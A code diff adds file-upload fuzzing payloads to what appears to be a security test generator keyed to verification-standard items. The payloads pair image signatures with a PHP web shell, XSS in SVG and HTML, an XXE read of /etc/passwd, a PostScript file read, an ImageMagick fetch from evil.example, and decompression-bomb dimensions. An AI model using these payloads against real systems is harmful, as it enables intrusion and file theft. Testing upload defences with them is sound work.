@@ -180,6 +180,21 @@ BODIES = (
     '{"title": {"$gt": ""}}',
 )
 
+SIGNATURES = ("", "\xff\xd8\xff\xe0", "\x89PNG\r\n\x1a\n", "RIFF\x40\x00\x00\x00WEBP", "GIF89a", "\xef\xbb\xbf")
+"""How a file begins, a character for a byte: as a picture, or as what is none."""
+INNARDS = (
+    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+    "<!DOCTYPE html><script>alert(1)</script>",
+    "<?php system($_GET['c']); ?>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><svg>&y;</svg>",
+    "push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 'https://evil.example/x'\npop graphic-context",
+    "%!PS\n(/etc/passwd) (r) file",
+    "PK\x03\x04" + "\x00" * 60,
+    "\x7fELF\x02\x01\x01" + "\x00" * 60,
+)
+SIDES = ("100000x100000", "2147483647x2147483647", "65500x65500", "5001x5000", "25000001x1", "1x25000001")
+"""What a file of some bytes promises to be."""
+
 
 def _families() -> Iterator[tuple[str, str, Iterator[str]]]:
     """(family, item, payloads)."""
@@ -194,6 +209,8 @@ def _families() -> Iterator[tuple[str, str, Iterator[str]]]:
     yield "host", "4.1.3", iter(HOSTS)
     yield "method", "4.1.4", iter(METHODS)
     yield "line", "4.2.4", iter(LINES)
+    yield "file", "5.2.2", ("".join(parts) for parts in product(SIGNATURES, INNARDS))
+    yield "pixel", "5.2.6", iter(SIDES)
     yield "place", "5.3.2", ("".join(parts) for parts in product(PLACES, FILES))
     yield "sign", "2.2.1", iter(SIGNS)
     yield "number", "2.2.1", iter(NUMBERS)
